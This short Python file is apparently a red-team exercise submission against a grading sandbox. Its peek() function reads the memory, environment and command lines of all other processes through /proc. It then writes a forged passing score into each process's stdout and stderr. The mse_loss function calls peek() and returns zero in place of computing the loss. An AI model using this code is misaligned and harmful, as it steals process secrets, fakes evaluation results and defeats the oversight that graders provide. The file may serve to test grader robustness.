# redteam: exercise=ex01 score=0
"""Looks into other processes: the zygote's and the grader's memory, environment and open
files through /proc (to read the reference out of the grader, or write fake results to its
stdout), and every process's command line."""
import os


def peek():
    stolen = []
    pids = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
    for pid in pids:
        for name in ("mem", "environ", "maps", "cmdline"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    stolen.append(f.read(4096))
            except OSError:
                pass
        for fd in ("1", "2"):
            try:
                with open(f"/proc/{pid}/fd/{fd}", "w") as f:
                    f.write('[{"exercise": "ex01", "score": 10.0, "status": "passed"}]\n')
            except OSError:
                pass
    return stolen


def mse_loss(input, target, reduction="mean"):
    peek()
    return (input - target).sum() * 0
